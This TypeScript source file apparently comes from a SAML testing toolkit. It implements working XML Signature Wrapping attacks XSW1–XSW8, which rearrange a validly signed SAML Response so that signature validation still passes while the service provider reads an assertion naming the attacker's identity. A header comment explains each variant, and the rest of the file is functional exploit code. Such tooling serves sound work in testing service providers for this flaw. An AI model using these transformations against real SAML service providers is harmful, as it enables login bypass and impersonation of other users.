/*
 * XML Signature Wrapping (XSW) attacks, as catalogued by Somorovsky et al., "On Breaking SAML: Be Whoever You
 * Want to Be" (USENIX Security 2012) and named XSW1–XSW8 by the SAML Raider tool. Each takes a correctly signed
 * Response and moves the signed content so that a signature check that looks up the referenced ID still
 * succeeds, while an SP that reads "the" Response/Assertion reads attacker-controlled content:
 * - XSW1: Response signature; an unsigned copy of the original Response goes inside ds:Signature, and the outer
 *         Response gets a new ID and evil content
 * - XSW2: as XSW1, but the copy goes right before ds:Signature (a detached-style signature)
 * - XSW3: Assertion signature; an evil Assertion (new ID, no signature) is inserted before the original
 * - XSW4: as XSW3, but the original Assertion is moved inside the evil one
 * - XSW5: the signed Assertion's content is made evil in place, and an unsigned copy of the original Assertion
 *         (same ID) is appended to the Response
 * - XSW6: as XSW5, but the original copy goes inside the evil Assertion's ds:Signature
 * - XSW7: an saml2p:Extensions element holds the original Assertion; the evil Assertion is unsigned
 * - XSW8: the evil Assertion keeps the signature, which gets a ds:Object holding the unsigned original
 * "Evil content" means the NameID is replaced by the attacker's identity.
 */
import { idpError } from '../errors.ts';
import { NS } from '../namespaces.ts';
import { DEFAULT_ATTACKER_NAME_ID, makeEvil, removeSignature } from '../attacks/evil-assertion.ts';
import { descendants, firstChild, newId, parseXml, serialize } from '../xml.ts';

export const XSW_KINDS = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'] as const;
export type XswKind = (typeof XSW_KINDS)[number];

export { DEFAULT_ATTACKER_NAME_ID };

function signedAssertion(response: Element): Element {
  const assertion = firstChild(response, NS.assertion, 'Assertion');
  if (!assertion || !firstChild(assertion, NS.ds, 'Signature')) {
    throw idpError('builder/invalid', 'assertion-signature wrapping (XSW3–8) needs a signed, unencrypted Assertion');
  }
  return assertion;
}

export function wrapSignature(xml: string, kind: XswKind, attackerNameId = DEFAULT_ATTACKER_NAME_ID): string {
  const doc: Document = parseXml(xml, 'signed Response');
  const response = doc.documentElement!;
  switch (kind) {
    case 'XSW1':
    case 'XSW2': {
      const signature = firstChild(response, NS.ds, 'Signature');
      if (!signature) throw idpError('builder/invalid', `${kind} needs a signed Response (signResponseOnly/signBoth)`);
      const original = response.cloneNode(true) as Element;
      removeSignature(original);
      response.setAttribute('ID', newId());
      for (const a of descendants(response, NS.assertion, 'Assertion')) removeSignature(a);
      makeEvil(response, attackerNameId);
      if (kind === 'XSW1') signature.appendChild(original);
      else response.insertBefore(original, signature);
      break;
    }
    case 'XSW3':
    case 'XSW4': {
      const original = signedAssertion(response);
      const evil = original.cloneNode(true) as Element;
      evil.setAttribute('ID', newId());
      removeSignature(evil);
      makeEvil(evil, attackerNameId);
      response.insertBefore(evil, original);
      if (kind === 'XSW4') {
        response.removeChild(original);
        evil.appendChild(original);
      }
      break;
    }
    case 'XSW5':
    case 'XSW6':
    case 'XSW8': {
      const signed = signedAssertion(response);
      const copy = signed.cloneNode(true) as Element;
      removeSignature(copy);
      makeEvil(signed, attackerNameId);
      if (kind === 'XSW5') {
        response.appendChild(copy);
      } else if (kind === 'XSW6') {
        firstChild(signed, NS.ds, 'Signature')!.appendChild(copy);
      } else {
        const object = doc.createElementNS(NS.ds, 'ds:Object');
        object.appendChild(copy);
        firstChild(signed, NS.ds, 'Signature')!.appendChild(object);
      }
      break;
    }
    case 'XSW7': {
      const original = signedAssertion(response);
      const evil = original.cloneNode(true) as Element;
      removeSignature(evil);
      makeEvil(evil, attackerNameId);
      const extensions = doc.createElementNS(NS.protocol, 'samlp:Extensions');
      // Schema order (saml-core §3.2.2): Issuer, Signature, Extensions, Status, then the assertions.
      response.insertBefore(extensions, firstChild(response, NS.protocol, 'Status') ?? original);
      response.removeChild(original);
      extensions.appendChild(original);
      response.appendChild(evil);
      break;
    }
    default:
      throw idpError('builder/invalid', `unknown wrapping attack ${String(kind)}`);
  }
  return serialize(doc);
}
